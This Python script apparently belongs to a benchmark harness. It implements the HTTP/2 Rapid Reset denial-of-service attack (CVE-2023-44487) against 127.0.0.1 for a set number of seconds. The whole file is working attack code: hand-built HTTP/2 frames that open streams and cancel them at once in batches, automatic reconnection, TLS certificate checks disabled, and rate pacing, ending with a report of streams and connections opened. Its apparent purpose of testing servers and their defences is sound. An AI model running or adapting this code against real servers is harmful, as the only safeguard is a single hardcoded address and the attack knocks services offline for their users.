"""The attack of a benchmark: HTTP/2 streams that are reset as soon as they are open.

CVE-2023-44487, from a program of its own, to 127.0.0.1 alone and for a few seconds. A connection
that the server ends is opened again. Prints how many streams it has opened, and connections.
"""

import argparse
import json
import select
import socket
import ssl
import time

# RFC 9113, 3.4 and 6.5; a frame: 4.1.
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
HEADERS, RST_STREAM = 1, 3
END_STREAM_AND_HEADERS = 5
CANCEL = (8).to_bytes(4, "big")
AT_ONCE = 50
# Of a connection, before the numbers of its streams are used up (RFC 9113, 5.1.1).
STREAMS_MAX = 1 << 30


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One frame."""
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags])
    return head + stream.to_bytes(4, "big") + payload


def request(host: str) -> bytes:
    """GET / in HPACK, without its dynamic table (RFC 7541, appendix A and 6.2.2)."""
    name = host.encode()
    return b"\x82\x84\x87\x01" + bytes([len(name)]) + name


class Attacker:
    """One connection after the other."""

    def __init__(self, port: int, host: str) -> None:
        self._port = port
        self._host = host
        self._block = request(host)
        self._channel: ssl.SSLSocket | None = None
        self._stream = 1
        self._unsent = b""
        self.streams = self.connections = 0

    def send(self) -> None:
        """As much as the server takes of the next streams."""
        try:
            channel = self._channel or self._connect()
            if not self._unsent:
                self._unsent = self._frames()
            self._read(channel)
            sent = channel.send(self._unsent)
            self._unsent = self._unsent[sent:]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            select.select([channel], [channel], [], 0.01)
        except OSError:
            self._close()

    def _connect(self) -> ssl.SSLSocket:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        plain = socket.create_connection(("127.0.0.1", self._port), 10)
        channel = context.wrap_socket(plain, server_hostname=self._host)
        channel.setblocking(False)
        self._channel, self._stream, self._unsent = channel, 1, PREFACE
        self.connections += 1
        return channel

    def _frames(self) -> bytes:
        found = []
        for _ in range(AT_ONCE):
            found.append(frame(HEADERS, END_STREAM_AND_HEADERS, self._stream, self._block))
            found.append(frame(RST_STREAM, 0, self._stream, CANCEL))
            self._stream += 2
        self.streams += AT_ONCE
        if self._stream >= STREAMS_MAX:
            self._close()
        return b"".join(found)

    def _read(self, channel: ssl.SSLSocket) -> None:
        try:
            if not channel.recv(65536):
                raise ConnectionResetError
        except ssl.SSLWantReadError:
            pass

    def _close(self) -> None:
        if self._channel is not None:
            self._channel.close()
        self._channel = None


def main() -> None:
    """Attack until the time is over."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--host", required=True)
    parser.add_argument("--connections", type=int, default=2)
    parser.add_argument("--rate", type=float, default=9_000, help="streams a second of each")
    parser.add_argument("--seconds", type=float, required=True)
    arguments = parser.parse_args()
    attackers = [Attacker(arguments.port, arguments.host) for _ in range(arguments.connections)]
    start = time.monotonic()
    while (passed := time.monotonic() - start) < arguments.seconds:
        due = passed * arguments.rate
        late = [one for one in attackers if one.streams < due]
        for one in late:
            one.send()
        if not late:
            time.sleep(0.002)
    streams, connections = (
        sum(counts) for counts in zip(*((a.streams, a.connections) for a in attackers), strict=True)
    )
    print(json.dumps({"streams": streams, "connections": connections}))


if __name__ == "__main__":
    main()
